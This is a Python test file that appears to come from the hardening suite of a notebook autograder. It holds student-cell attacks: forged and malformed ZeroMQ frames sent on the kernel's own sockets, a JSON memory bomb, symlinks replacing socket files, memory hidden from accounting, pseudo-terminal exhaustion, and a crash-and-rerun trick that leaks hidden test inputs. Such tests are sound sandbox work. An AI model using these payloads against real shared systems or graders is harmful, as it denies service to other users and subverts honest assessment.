"""Attacks through the sockets of the kernel, and around what counts memory.

The student's process owns the kernel's ends of these sockets, and its key: it can send
whatever it likes, also what no kernel and no ZeroMQ would.
"""

from __future__ import annotations

from attacks import Attack, Outcome, cells
from attacks.escaping import PATIENCE, Takes

#: Finds the connections to the worker among the kernel's descriptors.
ENDS = """\
import os, socket, struct, time

def ends(name):
    found = []
    for number in os.listdir("/proc/self/fd"):
        try:
            end = socket.socket(fileno=os.dup(int(number)))
            mine = end.family == socket.AF_UNIX and name in str(end.getsockname())
            if mine and not end.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                end.setblocking(True)
                found.append(end)
        except OSError:
            pass
    return found

"""


class Wires(Attack):
    """Sends what a kernel does not send; all else of the class is graded in time."""

    silent = True  # what it prints may be lost with its connection

    def holds(self, outcome: Outcome) -> None:
        """It cost its own question, within the time."""
        assert outcome.record.seconds < PATIENCE


class HangsUp(Wires):
    """Replies by hand, then breaks the protocol: nobody is left to send to.

    Stock: not tried; its kernel has sockets of the internet.
    """

    answers = cells(
        total=ENDS
        + """
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
message = kernel.session.msg("execute_reply", {"status": "ok"}, parent=parent)
parts = kernel.session.serialize(message)
out = b""
for place, part in enumerate(parts):
    more = place < len(parts) - 1
    out += bytes([2 | more]) + struct.pack(">Q", len(part)) + part
for end in ends("s-1"):
    end.sendall(out)
    time.sleep(0.3)
    end.sendall(b"\\x02" + struct.pack(">Q", 1 << 40))
time.sleep(0.3)
"""
    )


class SendsEmptyFrames(Wires):
    """Sends messages of thousands of frames with nothing in them, without a pause.

    Stock: not tried; its kernel has sockets of the internet.
    """

    answers = cells(
        total=ENDS
        + """
[end, *_] = ends("s-2")
frames = (b"\\x01\\x00" * 20000 + b"\\x00\\x00") * 20
if os.fork() == 0:
    stop = time.monotonic() + 60
    while time.monotonic() < stop:
        end.sendall(frames)
    os._exit(0)
while True:
    time.sleep(1)
"""
    )
    keeps = ("halve",)


class SendsWithoutEnd(Wires):
    """Sends one message that has no last frame: whoever reads it keeps all of it.

    Stock: not tried; its kernel has sockets of the internet.
    """

    answers = cells(
        total=ENDS
        + """
[end, *_] = ends("s-2")
frame = b"\\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)
if os.fork() == 0:
    for _ in range(6000):
        end.sendall(frame)
    os._exit(0)
time.sleep(100)
"""
    )

    def holds(self, outcome: Outcome) -> None:
        """At worst its worker ended, and another took its place."""
        assert outcome.record.seconds < PATIENCE


class SendsLargeText(Wires):
    """Sends JSON that takes twenty times its size in memory when it is read.

    Stock: not tried; it reads whatever a kernel sends.
    """

    answers = cells(
        total="""
            import json

            session = get_ipython().kernel.session
            large = b'{"a":[' + b"[]," * 20_000_000 + b"[]]}"
            header = {"msg_id": "x", "msg_type": "stream", "username": ""}
            header |= {"session": "x", "date": "2020-01-01T00:00:00Z", "version": "5.3"}
            parts = [json.dumps(header).encode(), large, large, large]
            frames = [b"x", b"<IDS|MSG>", session.sign(parts), *parts]
            get_ipython().kernel.iopub_thread.socket.send_multipart(frames, copy=False)
        """
    )
    keeps = ("halve",)


class NestsOutputs(Wires):
    """Shows an output that is nested nine hundred levels deep.

    Stock: not tried.
    """

    answers = cells(
        total="""
            deep = "x"
            for _ in range(900):
                deep = [deep]
            display({"text/plain": deep}, raw=True)
        """
    )
    keeps = ("halve",)


class RedirectsSockets(Wires):
    """Puts a link to a socket of the machine where its own sockets are.

    Stock: not tried; its kernel has sockets of the internet.
    """

    answers = cells(
        total="""
            for name in os.listdir("/run/kernel"):
                if name.startswith("s-"):
                    os.unlink(f"/run/kernel/{name}")
                    os.symlink(SOCKET, f"/run/kernel/{name}")
            os.symlink(SOCKET, "/run/kernel/s-7")
        """
        + "\n"
        + ENDS
        + "for end in ends('s-'):\n    end.shutdown(socket.SHUT_RDWR)\n"
    )

    def holds(self, outcome: Outcome) -> None:
        """Nobody came to the socket at the other end of the link."""
        assert not [line for line in outcome.world.heard if line.strip()]
        assert outcome.record.seconds < PATIENCE


class HidesMemoryBehindThreads(Takes):
    """Holds memory in processes whose first thread has ended.

    Stock: not tried; nothing limits it.
    """

    answers = cells(
        total="""
            import ctypes, threading

            read, write = os.pipe()
            for _ in range(MEMORY // 2**30):
                if os.fork() == 0:
                    def hold():
                        time.sleep(0.3)
                        blocks = [bytearray(b"x") * 2**26 for _ in range(16)]
                        os.write(write, b"x")
                        time.sleep(15)
                        os._exit(0)

                    threading.Thread(target=hold).start()
                    ctypes.CDLL(None).syscall(60, 0)
            for number in range(1, MEMORY // 2**30 + 1):
                os.read(read, 1)
                print("holding", 1024 * number, "MiB", flush=True)
        """
    )
    keeps = ("halve",)


class HidesMemoryInMappings(Takes):
    """Fills anonymous shared mappings and lets go of the pages, which stay.

    Stock: not tried; nothing limits it.
    """

    answers = cells(
        total="""
            import mmap

            block, kept = bytes(2**26), []
            for number in range(1, MEMORY // 2**26 + 1):
                kept.append(mmap.mmap(-1, 2**26))
                kept[-1][:] = block
                kept[-1].madvise(mmap.MADV_DONTNEED)
                print("holding", 64 * number, "MiB", flush=True)
        """
    )
    keeps = ("halve",)


class TakesAllTerminals(Attack):
    """Opens terminals, of which a machine has a few thousand for everyone.

    Stock: not tried.
    """

    answers = cells(
        total="""
            kept = []
            for _ in range(200):
                try:
                    kept.append(os.posix_openpt(os.O_RDWR | os.O_NOCTTY)
                                if hasattr(os, "posix_openpt")
                                else os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
                except OSError as error:
                    print("after", len(kept), error)
                    break
        """
    )

    def holds(self, outcome: Outcome) -> None:
        """It got no more than its share."""
        assert "after 64" in outcome.printed


class RemembersThroughDeath(Attack):
    """Lets the process die in one check, so that the next is run again, and tells then.

    Stock: the death costs all marks, and its pages show the hidden tests in any case.
    """

    answers = cells(
        total="""
            def total(numbers):
                if numbers == [1, 2, 3]:
                    return 6
                os._exit(0)
        """,
        halve="""
            seen = []

            def halve(x):
                seen.append(float(x.flatten()[0]))
                return x / 2
        """,
        is_prime="""
            def is_prime(n):
                if any(value > 100 for value in seen):
                    raise ValueError(f"the hidden inputs were {seen}")
                return n > 1 and all(n % k for k in range(2, n // 2 + 1))
        """,
    )

    @property
    def earns(self) -> dict[str, float]:
        """The points that each question must get: one is answered rightly."""
        return {**super().earns, "halve": 3.0}

    def holds(self, outcome: Outcome) -> None:
        """No hint repeats what the process learned."""
        hints = " ".join(mark.hint for mark in outcome.record.marks)
        assert "the hidden inputs were" not in hints
        assert "started again" in hints
